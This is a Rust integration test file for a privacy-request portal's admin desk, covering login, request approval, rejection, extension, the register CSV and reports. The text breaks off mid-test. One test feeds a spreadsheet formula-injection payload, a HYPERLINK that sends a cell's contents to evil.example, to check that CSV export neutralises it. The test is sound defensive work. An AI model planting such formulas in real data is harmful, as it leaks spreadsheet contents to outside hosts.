//! The DPO desk, black-box on a spawned app with a real SMTP server: accounts from the CLI,
//! login with password + computed TOTP, the register, request actions (each emailing the
//! subject where the law says so), the CSV and the report — on SQLite and PostgreSQL.

mod common;

use common::desk::{self, Desk, audited, exec, request_id};
use common::smtp::Smtp;
use common::{Backend, Setup, TestApp, location, stdout};
use dsr_portal::domain::format::long_date;
use dsr_portal::domain::{Calendar, Jurisdiction, deadline};

/// The text of HTML-escaped characters.
fn unescape(html: &str) -> String {
    html.replace("&#x27;", "'")
        .replace("&#39;", "'")
        .replace("&quot;", "\"")
        .replace("&#34;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// The steps of `requests show --plan`'s plan: (object, rows, action).
fn plan_steps(cli: &str) -> Vec<(String, String, String)> {
    cli.lines()
        .skip_while(|l| !l.starts_with("erasure plan"))
        .skip(1)
        .take_while(|l| l.starts_with(' ') || l.starts_with(|c: char| c.is_ascii_digit()))
        .filter(|l| l.starts_with("   "))
        .map(|l| {
            let mut parts = l.split_whitespace();
            let object = parts.next().unwrap().to_owned();
            let rows = parts.next().unwrap().to_owned();
            let action = l
                .split_once(&format!(" {rows}  "))
                .unwrap()
                .1
                .trim()
                .to_owned();
            (object, rows, action)
        })
        .collect()
}

fn ids_in(html: &str) -> Vec<String> {
    html.split("href=\"/admin/requests/")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .filter(|id| uuid::Uuid::parse_str(id).is_ok())
        .map(str::to_owned)
        .collect()
}

async fn desk_flow(backend: Backend) {
    let app = TestApp::spawn_with(
        backend,
        "[art15]\ncomplaints = \"Complain to the Data Protection Authority, dpa.example.\"\n",
    )
    .await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    for email in ["a@example.com", "b@example.com", "c@example.com"] {
        app.verified_request(email, "erasure").await;
    }
    let (a, b, c) = (
        request_id(&app, "a@example.com"),
        request_id(&app, "b@example.com"),
        request_id(&app, "c@example.com"),
    );

    let d = Desk::new(&app);
    // Not logged in: the desk sends the browser to the login page.
    let r = d.get("/admin").await;
    assert_eq!(r.status(), 303);
    assert_eq!(location(&r), "/admin/login");
    d.login("dpo@example.com", &secret).await;

    let html = d.text("/admin").await;
    for id in [&a, &b, &c] {
        assert!(html.contains(id.as_str()), "register lists {id}");
    }
    assert!(html.contains("awaiting approval"));
    assert!(
        !html.contains("a@example.com"),
        "the register shows no addresses"
    );

    // Approve a pending erasure: the request page leads to its review, which shows the
    // plan (the numbers of `requests show --plan`), then the confirm step.
    let page = d.text(&format!("/admin/requests/{a}")).await;
    assert!(
        page.contains("a@example.com")
            && page.contains(&format!("href=\"/admin/requests/{a}/review\"")),
        "{page}"
    );
    assert!(
        !page.contains("/approve\""),
        "no approval without its review: {page}"
    );
    let review = unescape(&d.text(&format!("/admin/requests/{a}/review")).await);
    let cli = app.cli(&["requests", "show", &a, "--plan"]);
    assert!(cli.status.success(), "{}", common::stderr(&cli));
    let cli = stdout(&cli);
    let steps = plan_steps(&cli);
    assert!(steps.len() >= 5, "{cli}");
    for (object, rows, action) in &steps {
        assert!(
            review.contains(&format!(
                "<td>{object}</td><td class=\"num\">{rows}</td><td>{action}</td>"
            )),
            "{object} {rows} {action}: {review}"
        );
    }
    assert!(review.contains("retain under a legal hold"), "{review}");
    assert!(review.contains("name=\"confirm\" value=\"yes\""));
    assert_eq!(
        audited(&app, "plan_viewed").len(),
        2,
        "the desk's and the CLI's"
    );
    // Approving without the confirm step changes nothing.
    let r = d.act(&a, "approve", &[]).await;
    assert_eq!(r.status(), 400);
    assert!(audited(&app, "approve").is_empty());
    let r = d.act(&a, "approve", &[("confirm", "yes")]).await;
    assert_eq!(r.status(), 303);
    assert_eq!(location(&r), format!("/admin/requests/{a}"));
    let page = d.text(&location(&r)).await;
    // The erasure job may already have finished the demo subject's erasure.
    assert!(
        page.contains("In progress") || page.contains("Completed"),
        "{page}"
    );
    assert!(page.contains("Approved."));
    assert!(
        !d.text(&location(&r)).await.contains("Approved."),
        "the message does not survive a reload"
    );
    assert!(
        page.contains("Approved by dpo@example.com."),
        "the timeline says who, in a sentence: {page}"
    );
    let approvals = audited(&app, "approve");
    assert_eq!(approvals.len(), 1);
    assert_eq!(approvals[0].actor, "admin:dpo@example.com");
    assert!(
        audited(&app, "admin_read").len() >= 2,
        "reading a request is audited"
    );

    // Reject as manifestly unfounded or excessive: the subject is told why, and their rights.
    let r = d
        .act(
            &b,
            "reject",
            &[
                ("ground", "art12_5"),
                ("reason", "The sixth identical request this month."),
            ],
        )
        .await;
    assert_eq!(r.status(), 303);
    let mail = app
        .smtp
        .wait_for_subject("b@example.com", "Your privacy request was declined")
        .await;
    assert!(
        mail.text.contains("manifestly unfounded or excessive"),
        "{}",
        mail.text
    );
    assert!(
        mail.text
            .contains("The sixth identical request this month.")
    );
    assert!(mail.text.contains("right to lodge a complaint"));
    assert!(mail.text.contains("dpa.example"));
    // A rejection without a reason changes nothing.
    let r = d.act(&c, "reject", &[("reason", "  ")]).await;
    assert_eq!(r.status(), 400);
    assert_eq!(audited(&app, "admin_action_refused").len(), 2);

    // Extend: the due date moves by the rules, the subject is emailed; only once.
    let today = dsr_portal::db::now().date();
    let expected = deadline::compute(
        Jurisdiction::Gdpr,
        today,
        Some(today),
        &[],
        &Calendar::default(),
    )
    .unwrap();
    let r = d
        .act(&c, "extend", &[("reason", "Your data sits in 14 systems.")])
        .await;
    assert_eq!(r.status(), 303);
    let mail = app
        .smtp
        .wait_for_subject("c@example.com", "Your privacy request: we need more time")
        .await;
    assert!(mail.text.contains("Your data sits in 14 systems."));
    assert!(
        mail.text.contains(&long_date(expected.extended_due))
            && mail.text.contains(&long_date(expected.due)),
        "{}",
        mail.text
    );
    let page = d.text(&format!("/admin/requests/{c}")).await;
    assert!(page.contains(&expected.extended_due.to_string()));
    let r = d.act(&c, "extend", &[("reason", "Again")]).await;
    assert_eq!(r.status(), 400, "one extension only");
    // Cancel with a reason.
    let r = d
        .act(&c, "cancel", &[("reason", "Withdrawn by phone")])
        .await;
    assert_eq!(r.status(), 303);

    // The CSV is the register: same rows, same order, same filters (closed ones asked for).
    let html = d.text("/admin?closed=1").await;
    let page_ids = ids_in(&html);
    let csv = d.get("/admin/register.csv?closed=1").await;
    assert_eq!(csv.status(), 200);
    assert!(
        csv.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let csv = csv.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let csv_ids: Vec<String> = rows.iter().map(|r| r[0].to_owned()).collect();
    assert_eq!(csv_ids, page_ids);
    assert_eq!(csv_ids.len(), 3);
    let status_of = |id: &str| rows.iter().find(|r| &r[0] == id).unwrap()[2].to_owned();
    assert_eq!(status_of(&b), "rejected");
    assert_eq!(status_of(&c), "cancelled");
    let filtered = d.text("/admin/register.csv?status=rejected").await;
    assert_eq!(filtered.lines().count(), 2, "{filtered}");
    assert!(filtered.contains(&b));
    let html = d.text("/admin?status=rejected").await;
    assert_eq!(ids_in(&html), vec![b.clone()]);
    assert_eq!(audited(&app, "admin_register_csv").len(), 2);

    // The yearly report counts by kind and outcome (once the approved erasure is done).
    let portal = app.portal.clone();
    let approved = a.clone();
    common::eventually(
        "the approved erasure to complete",
        std::time::Duration::from_secs(30),
        move || {
            dsr_portal::db::requests::get(&mut portal.conn().unwrap(), &approved)
                .unwrap()
                .is_some_and(|r| r.status.as_str() == "completed")
        },
    )
    .await;
    let year = today.year();
    let report = d.text(&format!("/admin/report?year={year}")).await;
    assert!(report.contains(&format!("received in {year}")), "{report}");
    assert!(
        report.contains("<th scope=\"row\">erasure</th><td>3</td><td>1</td><td>0</td><td>1</td><td>1</td><td>0</td><td>0</td><td>0</td><td>0</td><td>0</td></tr>"),
        "erasure: 3 received, 1 completed on time, 0 late, 1 rejected, 1 cancelled, 0 expired, \
         0 open, 0 overdue, median and p90 0 days: {report}"
    );
    assert!(
        report.contains("Manifestly unfounded or excessive (Art. 12(5)): 1"),
        "rejected by ground: {report}"
    );
    // The same as CSV; a year out of range is answered in words.
    let csv = d.text(&format!("/admin/report.csv?year={year}")).await;
    assert!(
        csv.lines()
            .any(|l| l == format!("kind,erasure,3,1,0,1,1,0,0,0,0,0,{year}")),
        "{csv}"
    );
    assert!(
        csv.lines()
            .any(|l| l == format!("rejection_ground,art12_5,0,0,0,1,0,0,0,0,,,{year}")),
        "{csv}"
    );
    assert!(
        csv.lines().any(|l| l.starts_with("channel,web,3,")),
        "{csv}"
    );
    let r = d.get("/admin/report?year=1999").await;
    assert_eq!(r.status(), 400);
    let words = format!("Pick a year between 2020 and {}.", year + 1);
    assert!(r.text().await.unwrap().contains(&words));

    // Log out: the session ends.
    let csrf = d.csrf("/admin").await;
    let r = d.post("/admin/logout", &[("csrf", &csrf)]).await;
    assert_eq!(r.status(), 303);
    assert_eq!(d.get("/admin").await.status(), 303);
    assert_eq!(audited(&app, "admin_logout").len(), 1);

    let out = app.cli(&["audit", "verify"]);
    assert!(out.status.success(), "{}", common::stderr(&out));
}

#[actix_web::test]
async fn desk_flow_on_sqlite() {
    desk_flow(Backend::Sqlite).await;
}

#[actix_web::test]
async fn desk_flow_on_postgres() {
    desk_flow(Backend::Postgres).await;
}

#[actix_web::test]
async fn admin_add_prints_the_uri_and_a_qr_code_and_fails_in_one_line() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let out = desk::admin_add(&app, "Dpo@Example.com", "dpo", desk::PASSWORD);
    assert!(out.status.success(), "{}", common::stderr(&out));
    let text = stdout(&out);
    assert!(
        text.contains("otpauth://totp/dsr-portal:dpo%40example.com?secret="),
        "{text}"
    );
    assert!(
        text.contains('█') || text.contains('▀'),
        "a QR code: {text}"
    );
    assert_eq!(audited(&app, "admin_added").len(), 1);
    for (email, role, password, says) in [
        ("dpo@example.com", "dpo", desk::PASSWORD, "exists already"),
        ("x@example.com", "dpo", "short", "at least 12"),
        ("x@example.com", "root", desk::PASSWORD, "--role"),
        ("not-an-address", "viewer", desk::PASSWORD, "address"),
    ] {
        let out = desk::admin_add(&app, email, role, password);
        assert!(!out.status.success(), "{email} {role}");
        let err = common::stderr(&out);
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        assert!(err.contains(says), "{err}");
    }
}

#[actix_web::test]
async fn pause_and_resume_move_the_uk_due_date_on_sqlite() {
    pause_and_resume_move_the_uk_due_date(Backend::Sqlite).await;
}

#[actix_web::test]
async fn pause_and_resume_move_the_uk_due_date_on_postgres() {
    pause_and_resume_move_the_uk_due_date(Backend::Postgres).await;
}

async fn pause_and_resume_move_the_uk_due_date(backend: Backend) {
    let app = TestApp::spawn_with(
        backend,
        "[policy]\ndefault_jurisdiction = \"uk\"\nrequire_approval = [\"erasure\", \"access\"]\n",
    )
    .await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    app.verified_request("uk@example.com", "access").await;
    let id = request_id(&app, "uk@example.com");
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let r = d.act(&id, "pause", &[("reason", "Which account?")]).await;
    assert_eq!(r.status(), 303);
    let page = d.text(&format!("/admin/requests/{id}")).await;
    assert!(page.contains("clock stopped") && page.contains("Which account?"));
    let r = d.act(&id, "pause", &[("reason", "Which account?")]).await;
    assert_eq!(r.status(), 400, "one pause at a time");
    // Forty days pass (the portal's clock moves), past the original due date: while the
    // clock is stopped the request is not overdue.
    let today = app.portal.today();
    app.portal.clock.advance(time::Duration::days(40));
    let later = app.portal.today();
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let register = d.text("/admin?view=all").await;
    assert!(register.contains("0 overdue"), "{register}");
    assert!(register.contains("clock stopped"), "{register}");
    assert!(!d.text("/admin?overdue=1").await.contains(&id));
    assert!(!d.text("/admin?due_within=3650").await.contains(&id));
    let r = d.act(&id, "resume", &[]).await;
    assert_eq!(r.status(), 303);
    let expected = deadline::compute(
        Jurisdiction::Uk,
        today,
        Some(today),
        &[deadline::Pause {
            from: today,
            to: later,
        }],
        &Calendar::default(),
    )
    .unwrap()
    .due;
    let page = d.text(&format!("/admin/requests/{id}")).await;
    assert!(
        page.contains(&expected.to_string()),
        "due {expected}: {page}"
    );
    let resumes = audited(&app, "resume");
    assert!(
        resumes[0].detail.contains("\"paused_days\":40"),
        "{}",
        resumes[0].detail
    );
    assert!(
        page.contains("Clock stopped by dpo@example.com.")
            && page.contains("Clock restarted by dpo@example.com."),
        "in the timeline: {page}"
    );
}

#[actix_web::test]
async fn pausing_is_refused_outside_the_uk() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    app.verified_request("eu@example.com", "erasure").await;
    let id = request_id(&app, "eu@example.com");
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let r = d.act(&id, "pause", &[("reason", "Which account?")]).await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("only uk"));
    // An extension after the original due date is refused too (40 days later, by the
    // portal's clock).
    app.portal.clock.advance(time::Duration::days(40));
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let r = d.act(&id, "extend", &[("reason", "Late")]).await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("has passed"));
    assert_eq!(audited(&app, "admin_action_refused").len(), 2);
    assert!(audited(&app, "extend").is_empty());
}

#[actix_web::test]
async fn register_filters_badges_and_pages_on_sqlite() {
    register_filters_badges_and_pages(Backend::Sqlite).await;
}

#[actix_web::test]
async fn register_filters_badges_and_pages_on_postgres() {
    register_filters_badges_and_pages(Backend::Postgres).await;
}

async fn register_filters_badges_and_pages(backend: Backend) {
    let app = TestApp::spawn_with(backend, "[admin]\npage_size = 2\n").await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    // p2 came in 34 days ago (the portal's clock moves between): overdue by a few days.
    app.verified_request("p2@example.com", "erasure").await;
    let overdue = request_id(&app, "p2@example.com");
    app.portal.clock.advance(time::Duration::days(34));
    for email in ["p1@example.com", "p3@example.com"] {
        app.verified_request(email, "erasure").await;
    }
    exec(
        &app,
        "UPDATE requests SET ticket_ref = 'ZD-7' WHERE email = 'p3@example.com'",
    );
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let html = d.text("/admin?view=all").await;
    let first = ids_in(&html);
    assert_eq!(first.len(), 2);
    assert_eq!(first[0], overdue, "overdue first");
    assert!(html.contains("1 overdue") && html.contains("class=\"badge overdue\">overdue"));
    assert!(html.contains("Next page"));
    let second = ids_in(&d.text("/admin?page=2").await);
    assert_eq!(second.len(), 1);
    assert!(!first.contains(&second[0]));
    let only = ids_in(&d.text("/admin?overdue=1").await);
    assert_eq!(only, vec![overdue.clone()]);
    let by_mail = ids_in(&d.text("/admin?q=P1%40example.com").await);
    assert_eq!(by_mail, vec![request_id(&app, "p1@example.com")]);
    let by_ticket = ids_in(&d.text("/admin?ticket=ZD-7").await);
    assert_eq!(by_ticket, vec![request_id(&app, "p3@example.com")]);
    let today = app.portal.today();
    let none = ids_in(
        &d.text(&format!("/admin?from={}", today + time::Duration::days(1)))
            .await,
    );
    assert!(none.is_empty());
    let within = ids_in(&d.text("/admin?due_within=7").await);
    assert_eq!(
        within,
        vec![overdue.clone()],
        "overdue counts as due within 7 days"
    );
    let r = d.get("/admin?status=nonsense").await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("unknown status"));
}

#[actix_web::test]
async fn the_daily_digest_reaches_the_dpos() {
    let app = TestApp::spawn_with(Backend::Sqlite, "[admin]\ndigest_hour_utc = 0\n").await;
    desk::add(&app, "dpo@example.com", "dpo");
    desk::add(&app, "viewer@example.com", "viewer");
    app.verified_request("late@example.com", "erasure").await;
    let id = request_id(&app, "late@example.com");
    // Its due date passed two days ago (the portal's clock moves on).
    let due = dsr_portal::db::requests::get(&mut app.conn(), &id)
        .unwrap()
        .unwrap()
        .due_on
        .unwrap();
    let days = (due - app.portal.today()).whole_days() + 2;
    app.portal.clock.advance(time::Duration::days(days));
    // The worker may have scheduled today's digest before there was anything to say:
    // forget it, so the next sweep schedules it again.
    app.settle().await;
    exec(&app, "DELETE FROM admin_digests");
    let mail = app
        .smtp
        .wait_for_subject(
            "dpo@example.com",
            "Privacy requests: 1 overdue, 0 due within 7 days",
        )
        .await;
    assert!(mail.text.contains(&id), "{}", mail.text);
    assert!(mail.text.contains(&format!("/admin/requests/{id}")));
    assert!(mail.text.contains("(2 days late)"), "{}", mail.text);
    assert!(app.smtp.to("viewer@example.com").is_empty(), "DPOs only");
}

/// 2 500 requests (1 500 of them unverified, so one sort-key group spans several CSV batches):
/// the CSV holds every row once, in register order, and the first page is its head.
async fn csv_streams_every_row_in_register_order(backend: Backend) {
    use diesel::prelude::*;
    use dsr_portal::db::requests::NewRequest;
    use dsr_portal::db::schema::requests;

    let app = TestApp::spawn(backend).await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    let now = dsr_portal::db::now();
    let ids: Vec<String> = (0..2_500)
        .map(|_| uuid::Uuid::now_v7().to_string())
        .collect();
    let emails: Vec<String> = (0..2_500).map(|i| format!("bulk{i}@example.com")).collect();
    let rows: Vec<NewRequest<'_>> = ids
        .iter()
        .zip(&emails)
        .map(|(id, email)| NewRequest {
            id,
            kind: "access",
            status: "unverified",
            email,
            jurisdiction: "gdpr",
            ticket_ref: None,
            received_at: now,
            verify_by: now + time::Duration::days(1),
            updated_at: now,
            details: None,
            language: "en",
        })
        .collect();
    let mut conn = app.conn();
    // One statement each (MultiConnection has no batch insert), in one transaction.
    conn.transaction::<_, diesel::result::Error, _>(|c| {
        for r in &rows {
            dsr_portal::db::requests::insert(c, r)?;
        }
        Ok(())
    })
    .unwrap();
    let today = now.date();
    let mut expected: Vec<(time::Date, String)> = Vec::new();
    for (i, id) in ids.iter().enumerate() {
        if i < 1_000 {
            let due = today + time::Duration::days(i as i64 % 10 - 3);
            expected.push((due, id.clone()));
        } else {
            expected.push((dsr_portal::admin::register::NO_DUE, id.clone()));
        }
    }
    for k in 0..10 {
        let due = today + time::Duration::days(k - 3);
        let group: Vec<&String> = ids[..1_000]
            .iter()
            .enumerate()
            .filter(|(i, _)| *i as i64 % 10 == k)
            .map(|(_, id)| id)
            .collect();
        diesel::update(requests::table.filter(requests::id.eq_any(group)))
            .set((
                requests::status.eq("processing"),
                requests::due_on.eq(Some(due)),
            ))
            .execute(&mut *conn)
            .unwrap();
    }
    drop(conn);
    expected.sort_by(|a, b| a.0.cmp(&b.0).then_with(|| b.1.cmp(&a.1)));
    let expected: Vec<String> = expected.into_iter().map(|(_, id)| id).collect();

    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let csv = d.text("/admin/register.csv").await;
    let got: Vec<String> = csv
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().unwrap().to_owned())
        .collect();
    assert_eq!(got.len(), 2_500);
    assert_eq!(got, expected, "every row once, in register order");
    let first = ids_in(&d.text("/admin?view=all").await);
    assert_eq!(first, expected[..50].to_vec());
    let page = ids_in(&d.text("/admin?page=30").await);
    assert_eq!(page, expected[1_450..1_500].to_vec());
}

#[actix_web::test]
async fn csv_streams_every_row_in_register_order_on_sqlite() {
    csv_streams_every_row_in_register_order(Backend::Sqlite).await;
}

#[actix_web::test]
async fn csv_streams_every_row_in_register_order_on_postgres() {
    csv_streams_every_row_in_register_order(Backend::Postgres).await;
}

#[actix_web::test]
async fn retry_resumes_a_failed_request() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    app.verified_request("f@example.com", "access").await;
    app.settle().await;
    let id = request_id(&app, "f@example.com");
    exec(
        &app,
        &format!("UPDATE requests SET status = 'failed' WHERE id = '{id}'"),
    );
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let page = d.text(&format!("/admin/requests/{id}")).await;
    assert!(
        page.contains("/retry\"") && !page.contains("/approve\""),
        "{page}"
    );
    assert!(
        page.contains("Progress per store") && page.contains("<td>app</td>"),
        "{page}"
    );
    let r = d.act(&id, "retry", &[]).await;
    assert_eq!(r.status(), 303);
    let retries = audited(&app, "retry");
    assert_eq!(retries.len(), 1);
    assert_eq!(retries[0].actor, "admin:dpo@example.com");
    app.settle().await;
    let page = d.text(&format!("/admin/requests/{id}")).await;
    assert!(
        page.contains("state-completed"),
        "the export ran again: {page}"
    );
    // Retrying a request that is not failed is refused, and says why.
    let r = d.act(&id, "retry", &[]).await;
    assert_eq!(r.status(), 409);
    assert!(
        r.text()
            .await
            .unwrap()
            .contains("cannot retry a request that is completed")
    );
}

/// The register CSV: a ticket reference a spreadsheet would run as a formula gets a leading
/// `'`; days left (a number the portal writes itself) stays a number, negative when overdue.
#[actix_web::test]
async fn the_register_csv_neutralises_formulas() {
    use common::api::{ALL_SCOPES, hs_config, token};
    let app = TestApp::spawn_with(Backend::Sqlite, &hs_config()).await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    let bearer = token("support", ALL_SCOPES);
    let link = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
    for (i, ticket) in [link, "+1", "-2", "@x", "TAB"].iter().enumerate() {
        let r = app
            .api_post(
                "/api/v1/requests",
                Some(&bearer),
                &serde_json::json!({"email": format!("f{i}@example.com"), "kind": "access",
                                    "ticket_ref": ticket}),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
    }
    // The API takes printable references only; a tab can still come from elsewhere.
    exec(
        &app,
        "UPDATE requests SET ticket_ref = '\tx' WHERE ticket_ref = 'TAB'",
    );
    // Overdue: verified by support, received 100 days ago.
    let received = time::OffsetDateTime::now_utc() - time::Duration::days(100);
    let r = app
        .api_post(
            "/api/v1/requests",
            Some(&bearer),
            &serde_json::json!({"email": "late@example.com", "kind": "erasure",
                "ticket_ref": "LATE-1", "identity_verified": true,
                "received_at": received.format(&time::format_description::well_known::Rfc3339).unwrap()}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let csv = d.text("/admin/register.csv").await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(&reader.headers().unwrap()[4], "ticket_ref");
    assert_eq!(&reader.headers().unwrap()[9], "days_left");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let mut tickets: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
    tickets.sort_unstable();
    let mut expected = vec![
        "'+1",
        "'-2",
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        "'@x",
        "'\tx",
        "LATE-1",
    ];
    expected.sort_unstable();
    assert_eq!(tickets, expected);
    let late = rows.iter().find(|r| &r[4] == "LATE-1").unwrap();
    let days: i64 = late[9]
        .parse()
        .unwrap_or_else(|_| panic!("days_left {:?}", &late[9]));
    assert!(days < 0, "overdue: {days}");
}

/// The portal over the demo map plus `newsletter`, a partner without an API (a `manual`
/// store), so an access request waits for its owner's answer.
async fn with_a_partner(backend: Backend) -> TestApp {
    let smtp = Smtp::start();
    let setup = Setup::new(backend, smtp.port);
    let mut map = std::fs::read_to_string(&setup.datamap).unwrap();
    map.push_str(
        "\n[[store]]\nname = \"newsletter\"\ntype = \"manual\"\ncontact = \"privacy@newsletter.example\"\n",
    );
    std::fs::write(&setup.datamap, map).unwrap();
    TestApp::spawn_setup(setup, smtp, true).await
}

/// The desk opens on "Needs you": one group per reason a request waits for a person, most
/// urgent first, each with its count (grey at 0), short reference, masked address and next
/// action; "All requests" lists open ones, closed ones only when asked; a reference finds
/// its request.
async fn the_queue_lists_what_needs_a_person(backend: Backend) {
    let app = with_a_partner(backend).await;
    let secret = desk::add(&app, "dpo@example.com", "dpo");
    let d = Desk::new(&app);
    d.login("dpo@example.com", &secret).await;
    let empty = d.text("/admin").await;
    assert!(empty.contains("Nothing needs you now."), "{empty}");
    assert!(
        empty.contains("<span class=\"q-chip zero\">0 failed</span>"),
        "a group at 0 is grey: {empty}"
    );
    assert!(!empty.contains("q-chip q-failed"), "{empty}");

    // One request per group, and one closed.
    app.verified_request("approve.me@example.com", "erasure")
        .await;
    app.verified_request("partner@example.com", "access").await;
    for email in [
        "broken@example.com",
        "paused@example.com",
        "soon@example.com",
    ] {
        app.verified_request(email, "erasure").await;
    }
    app.verified_request("done@example.com", "erasure").await;
    let id = |e: &str| request_id(&app, e);
    let today = app.portal.today();
    exec(
        &app,
        &format!(
            "UPDATE requests SET status = 'failed' WHERE id = '{}'",
            id("broken@example.com")
        ),
    );
    exec(
        &app,
        &format!(
            "UPDATE requests SET status = 'verified', paused_on = '{today}' WHERE id = '{}'",
            id("paused@example.com")
        ),
    );
    exec(
        &app,
        &format!(
            "UPDATE requests SET status = 'verified', due_on = '{}' WHERE id = '{}'",
            today + time::Duration::days(3),
            id("soon@example.com")
        ),
    );
    exec(
        &app,
        &format!(
            "UPDATE requests SET status = 'completed' WHERE id = '{}'",
            id("done@example.com")
        ),
    );
    let portal = app.portal.clone();
    let partner = id("partner@example.com");
    common::eventually(
        "the access request to wait for the partner",
        std::time::Duration::from_secs(30),
        move || {
            dsr_portal::db::exports::progress_of(&mut portal.conn().unwrap(), &partner)
                .unwrap()
                .iter()
                .any(|s| {
                    s.store == "newsletter" && s.state == dsr_portal::domain::work::Step::Waiting
                })
        },
    )
    .await;

    let html = d.text("/admin").await;
    for (chip, group) in [
        ("1 awaiting approval", "approval"),
        ("1 failed", "failed"),
        ("1 waiting on a partner", "partner"),
        ("1 clock stopped", "stopped"),
        ("1 due soon or overdue", "due"),
    ] {
        assert!(
            html.contains(&format!(
                "class=\"q-chip q-{group}\" href=\"#g-{group}\">{chip}</a>"
            )),
            "{chip}: {html}"
        );
    }
    // Most urgent first: the groups' sections in order.
    let at = |e: &str| {
        html.find(&format!("href=\"/admin/requests/{}\"", id(e)))
            .unwrap_or_else(|| panic!("{e} is in the queue: {html}"))
    };
    let order = [
        "approve.me@example.com",
        "broken@example.com",
        "partner@example.com",
        "paused@example.com",
        "soon@example.com",
    ];
    assert!(order.windows(2).all(|w| at(w[0]) < at(w[1])), "{html}");
    assert!(
        !html.contains(&id("done@example.com")),
        "closed: not in the queue"
    );
    for e in order {
        assert!(html.contains(&dsr_portal::domain::reference::of(&id(e))));
        assert!(!html.contains(e), "the address is masked: {e}");
    }
    assert!(html.contains("a***@example.com"));
    // The next action: review an approval, retry a failure from the queue itself, record a
    // partner's answer.
    assert!(html.contains(&format!(
        "href=\"/admin/requests/{}/review\"",
        id("approve.me@example.com")
    )));
    assert!(html.contains(&format!(
        "action=\"/admin/requests/{}/retry\"",
        id("broken@example.com")
    )));
    assert!(html.contains(&format!(
        "href=\"/admin/requests/{}#actions\"",
        id("partner@example.com")
    )));

    // All requests: open ones; closed ones when asked; a reference finds its request.
    let all = ids_in(&d.text("/admin?view=all").await);
    assert_eq!(all.len(), 5, "{all:?}");
    assert!(!all.contains(&id("done@example.com")));
    let with_closed = ids_in(&d.text("/admin?view=all&closed=1").await);
    assert_eq!(with_closed.len(), 6);
    let done = id("done@example.com");
    let reference = dsr_portal::domain::reference::of(&done);
    for q in [
        reference.clone(),
        reference.to_lowercase(),
        reference[2..].to_owned(),
    ] {
        let found = ids_in(&d.text(&format!("/admin?q={q}&closed=1")).await);
        assert_eq!(found, vec![done.clone()], "{q}");
    }
    // Human words in the filters.
    let register = d.text("/admin?view=all").await;
    assert!(
        register.contains(">Awaiting approval</option>"),
        "{register}"
    );
    assert!(!register.contains(">awaiting_approval<"), "{register}");
}

#[actix_web::test]
async fn the_queue_lists_what_needs_a_person_on_sqlite() {
    the_queue_lists_what_needs_a_person(Backend::Sqlite).await;
}

#[actix_web::test]
async fn the_queue_lists_what_needs_a_person_on_postgres() {
    the_queue_lists_what_needs_a_person(Backend::Postgres).await;
}

/// A request by phone, recorded on the desk with the identity already verified (reason
/// audited), and one by letter that gets the usual confirmation link: the clock runs from
/// the day received, the channel shows in the register, its CSV and the report. Then
/// assignment: "Mine", the assignee's digest, reassignment audited.
async fn a_request_from_any_channel_and_its_assignee(backend: Backend) {
    let app = TestApp::spawn_with(backend, "[admin]\ndigest_hour_utc = 0\n").await;
    let dpo = desk::add(&app, "dpo@example.com", "dpo");
    let kim_secret = desk::add(&app, "kim@example.com", "dpo");
    let d = Desk::new(&app);
    d.login("dpo@example.com", &dpo).await;
    let today = app.portal.today();
    let received = today - time::Duration::days(3);
    let record = |extra: Vec<(&'static str, String)>| {
        let d = &d;
        async move {
            let csrf = d.csrf("/admin/requests/new").await;
            let mut form: Vec<(&str, String)> = vec![("csrf", csrf)];
            form.extend(extra);
            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            d.post("/admin/requests/new", &form).await
        }
    };
    let phone = |identity: &str, reason: &str, day: time::Date| {
        vec![
            ("email", "phone@example.com".to_owned()),
            ("kind", "erasure".to_owned()),
            ("channel", "phone".to_owned()),
            ("received", day.to_string()),
            ("note", "Called the support line".to_owned()),
            ("identity", identity.to_owned()),
            ("reason", reason.to_owned()),
        ]
    };
    // Bad input is answered in words and records nothing.
    let r = record(phone("link", "", today + time::Duration::days(1))).await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("cannot be in the future"));
    let r = record(phone("verified", " ", received)).await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("say how you verified"));
    assert!(audited(&app, "recorded").is_empty());

    let r = record(phone(
        "verified",
        "Called back on the number on the account",
        received,
    ))
    .await;
    assert_eq!(r.status(), 303);
    let id = request_id(&app, "phone@example.com");
